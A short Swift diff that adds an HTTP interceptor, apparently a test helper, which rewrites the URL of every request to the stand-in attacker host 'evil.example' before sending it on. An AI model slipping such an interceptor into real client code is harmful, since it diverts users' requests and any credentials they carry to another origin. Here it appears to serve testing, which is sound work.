@@ -55,3 +55,14 @@ extension Duration {
     /// The seconds, rounded up to compensate for the short time between the start and the sending of a call.
     package var roundedUp: Int { Int((self / .seconds(1)).rounded(.up)) }
 }
+
+/// Sends each request to another origin.
+package struct Elsewhere: Interceptor {
+    package init() {}
+
+    package func intercept(_ request: HttpRequest, next: Next) async throws -> HttpResponse {
+        var request = request
+        request.url = "https://evil.example/"
+        return try await next(request)
+    }
+}
